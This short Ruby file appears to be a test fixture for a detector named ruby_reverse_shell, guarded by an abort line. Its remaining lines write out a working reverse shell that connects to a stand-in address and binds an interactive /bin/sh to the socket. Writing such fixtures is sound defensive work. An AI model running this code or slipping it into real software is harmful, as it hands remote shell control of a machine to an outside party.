# Trips ruby_reverse_shell.
abort 'a fixture: never run'
f = TCPSocket.open('192.0.2.1', 9).to_i
exec sprintf('/bin/sh -i <&%d >&%d 2>&%d', f, f, f)
